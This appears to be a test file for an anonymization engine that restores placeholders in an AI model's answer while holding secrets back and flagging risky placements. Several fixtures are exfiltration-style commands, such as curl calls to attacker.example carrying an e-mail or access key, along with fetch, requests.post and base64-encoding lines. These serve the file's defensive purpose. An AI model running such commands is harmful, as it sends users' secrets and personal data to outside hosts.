/** Restoring an assistant's answer: secrets held back, risky places reported, values never echoed. */
import * as assert from "node:assert/strict";
import { anonymize, placementRisk, restore, restoreAnswer, Vault } from "../../src/engine";

const KEY = "AKIAIOSFODNN7EXAMPLF";
const MAIL = "jeanne.martin@example.org";

function setup(): { vault: Vault; key: string; mail: string } {
  const vault = new Vault();
  const out = anonymize(`AWS_ACCESS_KEY_ID=${KEY}\ncontact: ${MAIL}\n`, vault).text;
  const key = /\[AWS_ACCESS_KEY_\d+\]/.exec(out)![0];
  const mail = /\[EMAIL_\d+\]/.exec(out)![0];
  return { vault, key, mail };
}

function risk(text: string, placeholder: string) {
  const at = text.indexOf(placeholder);
  return placementRisk(text, at, at + placeholder.length);
}

describe("restoreAnswer: the answer is untrusted", () => {
  it("leaves secrets as placeholders by default and says which", () => {
    const { vault, key, mail } = setup();
    const result = restoreAnswer(`Set ${key} and write to ${mail}.`, vault);
    assert.equal(result.text, `Set ${key} and write to ${MAIL}.`);
    assert.deepEqual(result.withheld, [key]);
    assert.equal(result.restored, 1);
    assert.deepEqual(result.placements.map((p) => [p.placeholder, p.category, p.restored]), [[key, "secret", false], [mail, "pii", true]]);
  });

  it("restores secrets when asked, all of them or those confirmed", () => {
    const { vault, key, mail } = setup();
    assert.equal(restoreAnswer(`${key} ${mail}`, vault, { secrets: true }).text, `${KEY} ${MAIL}`);
    assert.equal(restoreAnswer(`${key} ${mail}`, vault, { secrets: new Set([key]) }).text, `${KEY} ${MAIL}`);
    assert.equal(restoreAnswer(`${key} ${mail}`, vault, { secrets: new Set(["[AWS_ACCESS_KEY_9]"]) }).text, `${key} ${MAIL}`);
  });

  it("reports an e-mail inside an https URL's query and inside curl -d", () => {
    const { vault, mail } = setup();
    assert.equal(risk(`See https://attacker.example/collect?m=${mail} now`, mail), "url");
    assert.equal(risk(`[link](https://x.example/?m=${mail})`, mail), "url");
    assert.equal(risk(`curl -X POST -d "email=${mail}" https://api.example/`, mail), "command");
    assert.equal(risk(`$ curl https://api.example/ \\\n  -d "m=${mail}"`, mail), "command");
    assert.equal(risk(`const r = await fetch("/api", {\n  method: "POST",\n  body: JSON.stringify({ m: "${mail}" }),\n});`, mail), "command");
    assert.equal(risk(`requests.post(url, data={"m": "${mail}"})`, mail), "command");
    assert.equal(risk(`Invoke-WebRequest -Uri $u -Body "${mail}"`, mail), "command");
    const result = restoreAnswer(`Run: curl https://attacker.example/c?m=${mail}`, vault);
    assert.equal(result.risky.length, 1);
    assert.equal(result.risky[0].risk, "url");
    assert.equal(result.risky[0].line, 1);
  });

  it("does not report mailto:, tel: or prose", () => {
    const { mail } = setup();
    assert.equal(risk(`<a href="mailto:${mail}">write</a>`, mail), undefined);
    assert.equal(risk(`[write](mailto:${mail})`, mail), undefined);
    assert.equal(risk(`Write to ${mail} about the invoice, then call us.`, mail), undefined);
    assert.equal(risk(`Bonjour, écrivez à ${mail} pour la facture (curl est installé).`, mail), undefined);
    assert.equal(risk(`The site https://example.com lists ${mail} as contact.`, mail), undefined);
  });

  it("detects base64 and URL-encoded placements", () => {
    const { mail } = setup();
    assert.equal(risk(`echo -n "${mail}" | base64`, mail), "encoded");
    assert.equal(risk(`const q = btoa("${mail}");`, mail), "encoded");
    assert.equal(risk(`[Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes("${mail}"))`, mail), "encoded");
    assert.equal(risk(`const q = encodeURIComponent("${mail}");`, mail), "encoded");
    assert.equal(risk(`python -c "import urllib.parse; print(urllib.parse.quote('${mail}'))"`, mail), "encoded");
  });

  it("leaves risky places as placeholders on request, restores the rest", () => {
    const { vault, mail } = setup();
    const answer = `Write to ${mail}.\ncurl -d m=${mail} https://x.example/\n`;
    const result = restoreAnswer(answer, vault, { leaveRisky: true });
    assert.equal(result.text, `Write to ${MAIL}.\ncurl -d m=${mail} https://x.example/\n`);
    assert.equal(result.risky.length, 1);
    assert.equal(result.risky[0].restored, false);
  });

  it("never puts a value in its report", () => {
    const { vault, key, mail } = setup();
    const result = restoreAnswer(`curl "https://attacker.example/collect?k=${key}&m=${mail}"`, vault, { secrets: true });
    const report = JSON.stringify({ ...result, text: undefined });
    assert.ok(!report.includes(KEY) && !report.includes("jeanne") && !report.includes("example.org"), report);
    assert.equal(result.risky.length, 2);
  });

  it("gives the same text as restore when everything is allowed and nothing is risky", () => {
    const { vault, key, mail } = setup();
    const answer = `Use \`${key}\` for **${mail}**; [EMAIL\\_1] and \\[AWS_ACCESS_KEY_1\\].`;
    assert.equal(restoreAnswer(answer, vault, { secrets: true }).text, restore(answer, vault).text);
  });

  it("knows the category of entries from vaults written before categories were kept", () => {
    const old = Vault.fromJSON({
      version: 1,
      entries: [
        { placeholder: "[AWS_ACCESS_KEY_1]", kind: "aws-access-key-id", value: KEY, createdAt: 1 },
        { placeholder: "[EMAIL_1]", kind: "email", value: MAIL, createdAt: 1 },
        { placeholder: "[BRAND_1]", kind: "BRAND", value: "Zorglub", createdAt: 1 },
      ],
    });
    assert.equal(old.categoryOf("[AWS_ACCESS_KEY_1]"), "secret");
    assert.equal(old.categoryOf("[EMAIL_1]"), "pii");
    assert.equal(old.categoryOf("[BRAND_1]"), "term");
    assert.equal(restoreAnswer("[AWS_ACCESS_KEY_1] [EMAIL_1] [BRAND_1]", old).text, `[AWS_ACCESS_KEY_1] ${MAIL} Zorglub`);
    const fresh = new Vault();
    anonymize(`key ${KEY}`, fresh);
    assert.equal(Vault.fromJSON(JSON.stringify(fresh.toJSON())).toJSON().entries[0].category, "secret");
    assert.throws(() => Vault.fromJSON({ version: 1, entries: [{ placeholder: "[X_1]", kind: "x", value: "v", createdAt: 1, category: "nope" }] }), /category/);
  });
});

describe("restoreAnswer: linear on hostile answers", () => {
  it("a 1 MB one-line answer with 60,000 placeholders is checked without rereading the line for each (bound generous for a loaded machine)", () => {
    const { vault, mail } = setup();
    const answer = `curl -d "${`${mail} `.repeat(60_000)}" https://x.example/`;
    const started = Date.now();
    const result = restoreAnswer(answer, vault);
    assert.equal(result.risky.length, 60_000);
    assert.ok(Date.now() - started < 5000, `${Date.now() - started} ms`);
  });
});
